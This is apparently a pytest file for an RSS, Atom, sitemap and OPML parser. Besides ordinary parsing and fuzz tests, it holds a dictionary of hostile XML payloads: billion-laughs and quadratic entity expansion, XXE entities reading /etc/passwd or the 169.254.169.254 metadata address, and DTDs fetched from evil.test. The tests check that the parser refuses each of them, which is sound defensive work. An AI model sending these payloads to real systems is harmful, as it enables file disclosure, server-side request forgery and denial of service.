"""Feed, sitemap and OPML parsing: safe (no DTD, entities, XXE), tolerant of real feeds,
and raising only FeedParseError on arbitrary bytes."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from wirewatch.errors import FeedParseError
from wirewatch.watch.feeds import parse_feed, parse_opml, parse_sitemap, sniff_kind

RSS = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Wire</title><link>https://news.test/</link><description>d</description>
<item><title>Blast in Mogadishu</title><link>/somalia/1</link><pubDate>Thu, 06 Mar 2025 18:00:00 GMT</pubDate></item>
<item><title>No link</title><guid isPermaLink="false">x-1</guid></item>
<item><title>Guid link</title><guid>https://news.test/2</guid></item>
</channel></rss>"""

ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>A</title><id>urn:a</id><updated>2025-03-06T00:00:00Z</updated>
<entry><title>Entry</title><id>urn:1</id><link href="https://news.test/atom/1"/>
<updated>2025-03-07T10:30:00Z</updated></entry></feed>"""

NEWS_SITEMAP = b"""<?xml version="1.0" encoding="UTF-8"?>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" xmlns:news="http://www.google.com/schemas/sitemap-news/0.9">
<url><loc>https://news.test/a</loc><news:news><news:publication><news:name>W</news:name><news:language>en</news:language>
</news:publication><news:publication_date>2025-03-06T12:00:00+00:00</news:publication_date>
<news:title>Attack</news:title></news:news></url>
<url><loc>https://news.test/b</loc><lastmod>2025-03-05</lastmod></url></urlset>"""

SITEMAP_INDEX = b"""<?xml version="1.0" encoding="UTF-8"?>
<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
<sitemap><loc>https://news.test/sitemap-1.xml</loc></sitemap><sitemap><loc>/sitemap-2.xml</loc></sitemap>
</sitemapindex>"""

OPML = b"""<?xml version="1.0"?><opml version="2.0"><head><title>subs</title></head><body>
<outline text="World"><outline text="Wire" type="rss" xmlUrl="https://news.test/feed.xml"/>
<outline text="Other" type="rss" xmlUrl="https://other.test/rss"/></outline><outline text="no feed"/></body></opml>"""

HOSTILE = {
    "billion laughs": b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 '
                      b'"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><rss><channel><title>&lol2;'
                      b"</title></channel></rss>",
    "xxe file": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                b"<rss><channel><title>&x;</title></channel></rss>",
    "xxe url": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/">]>'
               b"<rss><channel><title>&x;</title></channel></rss>",
    "parameter entity": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;]>'
                        b"<rss/>",
    "external dtd": b'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://evil.test/rss.dtd"><rss/>',
    "quadratic blowup": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "' + b"x" * 10000 + b'">]><rss>'
                        + b"&a;" * 1000 + b"</rss>",
    "doctype in sitemap": b'<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY a "b">]><urlset/>',
}


def test_parse_rss_items_resolve_links_and_dates() -> None:
    items = parse_feed(RSS, "https://news.test/feed.xml")
    assert [i.url for i in items] == ["https://news.test/somalia/1", "https://news.test/2"]
    assert items[0].title == "Blast in Mogadishu"
    assert items[0].published == datetime(2025, 3, 6, 18, tzinfo=UTC)


def test_parse_atom() -> None:
    (item,) = parse_feed(ATOM)
    assert item.url == "https://news.test/atom/1"
    assert item.published == datetime(2025, 3, 7, 10, 30, tzinfo=UTC)


def test_parse_news_sitemap() -> None:
    sitemap = parse_sitemap(NEWS_SITEMAP)
    assert [(i.url, i.title) for i in sitemap.items] == [("https://news.test/a", "Attack"),
                                                        ("https://news.test/b", None)]
    assert sitemap.items[0].published == datetime(2025, 3, 6, 12, tzinfo=UTC)
    assert sitemap.items[1].published == datetime(2025, 3, 5, tzinfo=UTC)


def test_parse_sitemap_index() -> None:
    sitemap = parse_sitemap(SITEMAP_INDEX, "https://news.test/sitemap.xml")
    assert sitemap.children == ("https://news.test/sitemap-1.xml", "https://news.test/sitemap-2.xml")
    assert sitemap.items == ()


def test_parse_opml_nested_outlines() -> None:
    assert [o.url for o in parse_opml(OPML)] == ["https://news.test/feed.xml", "https://other.test/rss"]


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_feed_hostile_xml_is_refused(name: str) -> None:
    with pytest.raises(FeedParseError, match="refused"):
        if b"urlset" in HOSTILE[name]:
            parse_sitemap(HOSTILE[name])
        else:
            parse_feed(HOSTILE[name])


@pytest.mark.parametrize(("content", "reason"), [
    (b"", "empty"), (b"<rss><channel>", "not well-formed"), (b"<html><body>hi</body></html>", "not an RSS"),
    (b"\xff\xfe\x00garbage", "not well-formed"), (NEWS_SITEMAP, "not an RSS"),
])
def test_feed_bad_input_says_why(content: bytes, reason: str) -> None:
    with pytest.raises(FeedParseError, match=reason):
        parse_feed(content)


def test_sitemap_and_opml_reject_other_roots() -> None:
    with pytest.raises(FeedParseError, match="not a sitemap"):
        parse_sitemap(RSS)
    with pytest.raises(FeedParseError, match="not an OPML"):
        parse_opml(RSS)


@pytest.mark.parametrize(("content", "kind"), [(RSS, "feed"), (ATOM, "feed"), (NEWS_SITEMAP, "sitemap"),
                                               (SITEMAP_INDEX, "sitemap"), (OPML, "opml"),
                                               (b"<!DOCTYPE html><html><p>rss</p></html>", "page"),
                                               (b"plain text", "page")])
def test_sniff_kind(content: bytes, kind: str) -> None:
    assert sniff_kind(content) == kind


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2000) | st.text(max_size=2000).map(str.encode)
       | st.builds(lambda a, b: RSS[:a] + b + RSS[a:], st.integers(0, len(RSS)), st.binary(max_size=50)))
def test_feed_parser_raises_only_feed_parse_error(content: bytes) -> None:
    for parse in (parse_feed, parse_sitemap, parse_opml):
        try:
            parse(content)
        except FeedParseError:
            pass
